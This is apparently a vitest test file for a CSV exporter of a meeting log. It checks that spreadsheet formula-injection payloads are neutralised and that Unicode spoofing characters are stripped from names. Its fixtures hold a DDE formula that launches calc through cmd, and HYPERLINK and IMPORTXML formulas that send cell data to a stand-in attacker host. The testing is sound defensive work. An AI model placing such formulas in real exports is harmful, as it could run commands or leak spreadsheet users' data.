import { createHash } from 'node:crypto';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, exportCsv } from './csv';
import { LogBuilder, participant } from './testing/logBuilder';
import { storyLog } from './testing/storyLog';

const sha = (s: string) => createHash('sha256').update(s, 'utf8').digest('hex');

/** OWASP "CSV Injection" payloads and friends: each would run as a formula if written as is. */
const FORMULAS = [
  '=1+2',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '+1+2',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+2',
  '\r=1+2',
  ' =1+2',
  '＝1+2',
];

function parse(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const result = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('csvCell', () => {
  it('prefixes every cell that a spreadsheet would read as a formula with a single quote', () => {
    for (const payload of FORMULAS) expect(csvCell(payload).replace(/^"/, ''), JSON.stringify(payload)).toMatch(/^'/);
  });

  it('leaves ordinary text alone, and quotes per RFC 4180 when needed', () => {
    expect(csvCell('Budi Santoso')).toBe('Budi Santoso');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=SUM(A1,"x")')).toBe('"\'=SUM(A1,""x"")"');
  });
});

describe('CSV export', () => {
  it('writes one row per entry with the chain link, UTF-8 with a byte-order mark and CRLF line ends', () => {
    const log = storyLog(sha);
    const csv = exportCsv(log.entries, { language: 'en', redact: false });
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '').includes('\n')).toBe(false);
    const rows = parse(csv);
    expect(rows[0]).toEqual(['No.', 'UTC', 'Local time', 'Type', 'Participant', 'Summary', 'Details (JSON)', 'Hash of the previous entry']);
    expect(rows).toHaveLength(log.entries.length + 1);
    log.entries.forEach((entry, i) => {
      const row = rows[i + 1] ?? [];
      expect(row[0]).toBe(String(entry.seq));
      expect(row[1]).toBe(entry.ts);
      expect(row[3]).toBe(entry.kind);
      expect(JSON.parse(row[6] ?? '')).toEqual((entry as { data: unknown }).data);
      expect(row[7]).toBe(entry.prev);
    });
    const joined = rows.find((r) => r[3] === 'participant.joined' && r[4] === 'qq_6e2lg');
    expect(joined?.[2]).toBe('2026-11-26T09:51:21.000+07:00');
    expect(joined?.[5]).toBe(
      'qq_6e2lg joined as attendee, with microphone and camera on. The platform reported: loud noise, explicit video.',
    );
  });

  it('neutralises formulas in names, and every cell of every row stays inert', () => {
    const log = new LogBuilder(sha);
    FORMULAS.forEach((name, i) => {
      log.add({ kind: 'participant.joined', data: { participant: participant(`p-${i}`, name, log.now) } });
      log.add({ kind: 'participant.left', data: { participantId: `p-${i}`, displayName: name, reason: 'ejected', at: log.now } });
    });
    log.add({ kind: 'note', data: { text: '=IMPORTXML("https://evil.example","//a")' } });
    log.add({ kind: 'error', data: { message: '-1+1', context: '@home' } });
    const rows = parse(exportCsv(log.entries, { language: 'id', redact: false })).slice(1);
    for (const row of rows) {
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[ \u00A0]*[=+\-@\t\r＝＋－＠]/);
    }
    // The names are still there (on one line, as everywhere in the report), behind the quote.
    const participants = rows.filter((r) => r[3] === 'participant.joined').map((r) => r[4]);
    expect(participants).toEqual(FORMULAS.map((f) => `'${f.replace(/\s+/g, ' ').trim()}`));
  });

  it('shows invisible characters in the JSON column as escapes, and strips them from names', () => {
    const log = new LogBuilder(sha);
    const name = 'Ad\u200Bmin \u202Egnp.exe';
    log.add({ kind: 'participant.joined', data: { participant: participant('p-1', name, log.now) } });
    const row = parse(exportCsv(log.entries, { language: 'en', redact: false }))[1] ?? [];
    expect(row[4]).toBe('Admin gnp.exe');
    expect(row[6]).toContain('Ad\\u200bmin \\u202egnp.exe');
    expect(row[6]).not.toMatch(/[\u200B\u202E]/);
    expect(JSON.parse(row[6] ?? '')).toMatchObject({ participant: { displayName: name } });
  });
});
